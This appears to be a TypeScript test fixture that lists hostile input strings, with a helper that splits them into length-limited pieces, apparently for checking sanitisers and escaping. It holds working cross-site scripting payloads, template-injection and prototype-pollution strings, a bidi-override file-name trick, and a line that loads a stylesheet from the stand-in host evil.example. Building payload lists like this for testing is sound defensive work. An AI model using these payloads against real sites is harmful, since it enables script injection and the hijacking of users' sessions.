/**
 * Texts that run, or fetch, where a program forgets that they are text: by the place that they break
 * out of. What runs says `xss=1`. Each fits into the shortest of the ordinary fields.
 */
export const HOSTILE: readonly string[] = [
  '<script>xss=1</script>',
  '<img src=x onerror=xss=1>',
  '<svg onload=xss=1>',
  '<svg/onload=xss=1//',
  '"><img src=x onerror=xss=1>',
  `'autofocus onfocus='xss=1' x="y`,
  '</script><script>xss=1</script>',
  '<!--<script>xss=1//--></script>',
  '--><script>xss=1</script>',
  '</title><svg onload=xss=1>',
  '</style><script>xss=1</script>',
  '<a href="jav&#x09;ascript:xss=1">x</a>',
  '</bdi></template><details open ontoggle=xss=1>x</details>',
  'javascript:xss=1',
  'data:text/html,<script>parent.xss=1</script>',
  '<iframe srcdoc="<script>parent.xss=1</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=xss=1>">',
  '<noscript><p title="</noscript><img src=x onerror=xss=1>">',
  '&lt;img src=x onerror=xss=1&gt;&#60;svg onload=xss=1&#62;&amp;lt;',
  "${xss=1} {{constructor.constructor('xss=1')()}} #{xss=1} <%= xss=1 %>",
  String.raw`\u003cscript\u003exss=1\u003c/script\u003e\x3cimg src=x onerror=xss=1\x3e`,
  "a\u2028xss=1\u2029';xss=1;//\\",
  "{wallet} {signature} {address} $& $1 $$ $' $` %s __proto__",
  '\u202Egpj.exe\u2066<img src=x onerror=xss=1>\u2069',
  '<base href=//evil.example><link rel=stylesheet href=//evil.example/x.css>',
];

/** The texts one after the other, in as few pieces of at most so many characters as it takes. */
export function splitIntoPieces(texts: readonly string[], maxLength: number): string[] {
  const pieces: string[] = [];
  for (const text of texts) {
    const longer = `${pieces.at(-1) ?? ''} ${text}`;
    if (pieces.length > 0 && longer.length <= maxLength) pieces.splice(-1, 1, longer);
    else pieces.push(text);
  }
  return pieces;
}
